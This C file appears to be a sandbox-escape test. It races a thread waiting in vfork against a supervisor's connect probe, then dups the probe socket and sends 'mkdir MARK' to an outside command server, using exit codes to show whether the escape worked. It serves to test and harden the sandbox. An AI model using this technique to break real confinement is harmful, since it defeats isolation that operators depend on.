/* SPDX-License-Identifier: ISC */
/*
 * Blind round 16: a thread waiting in vfork during a judged connect.  To
 * judge a unix stream connect the supervisor holds the caller's other
 * threads, has the caller connect a socket of its own and looks whom it
 * reached; one that reached a listener outside is closed.  A thread
 * waiting for its vfork child cannot stop, and was counted as held; its
 * child's _exit let it go while the probe was connected outside, and it
 * took the probe (dup) and talked to the listener.
 *
 * usage: escape_vforkconn MARK SERVER
 * SERVER is escape_box cmd-server's socket (outside the tree): "mkdir
 * MARK" sent on any connection to it makes MARK.  Exit 0 MARK made, 3 not.
 */
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *mark, *server;
static atomic_int done;

static void
spin_us(long us)
{
	struct timespec a, b;

	clock_gettime(CLOCK_MONOTONIC, &a);
	do
		clock_gettime(CLOCK_MONOTONIC, &b);
	while ((b.tv_sec - a.tv_sec) * 1000000 +
	    (b.tv_nsec - a.tv_nsec) / 1000 < us);
}

/* Sends the command on fd if it is a unix socket connected to server. */
static bool
talk_if_outside(int fd)
{
	struct sockaddr_un peer;
	socklen_t len = sizeof(peer);
	char line[4200];
	int d;

	memset(&peer, 0, sizeof(peer));
	if (getpeername(fd, (struct sockaddr *)&peer, &len) == -1 ||
	    peer.sun_family != AF_UNIX || strcmp(peer.sun_path, server) != 0)
		return false;
	if ((d = dup(fd)) == -1)
		return false;
	snprintf(line, sizeof(line), "mkdir %s\n", mark);
	if (send(d, line, strlen(line), MSG_NOSIGNAL) !=
	    (ssize_t)strlen(line)) {
		close(d);
		return false;
	}
	close(d);
	return true;
}

/* Waits in vfork again and again; let go, looks for a connected probe. */
static void *
sibling(void *arg)
{
	pid_t c;

	(void)arg;
	while (!done) {
		if ((c = vfork()) == 0) {
			spin_us(1000);
			_exit(0);
		}
		if (c > 0)
			waitpid(c, NULL, 0);
		for (int fd = 3; fd < 64 && !done; fd++)
			if (talk_if_outside(fd))
				done = 1;
	}
	return NULL;
}

int
main(int argc, char **argv)
{
	struct sockaddr_un a;
	pthread_t t;
	int s;

	if (argc != 3)
		return 2;
	mark = argv[1];
	server = argv[2];
	signal(SIGPIPE, SIG_IGN);	/* a probe closed meanwhile: on */
	memset(&a, 0, sizeof(a));
	a.sun_family = AF_UNIX;
	strncpy(a.sun_path, server, sizeof(a.sun_path) - 1);
	if (pthread_create(&t, NULL, sibling, NULL) != 0)
		return 3;
	for (int i = 0; i < 600 && !done; i++) {
		if ((s = socket(AF_UNIX, SOCK_STREAM, 0)) == -1)
			break;
		/* unpinned the connect itself works: the same effect */
		if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0 &&
		    talk_if_outside(s))
			done = 1;
		close(s);
		usleep(2000);
	}
	done = 1;
	pthread_join(t, NULL);
	for (int i = 0; i < 50 && access(mark, F_OK) != 0; i++)
		usleep(20000);
	return access(mark, F_OK) == 0 ? 0 : 3;
}
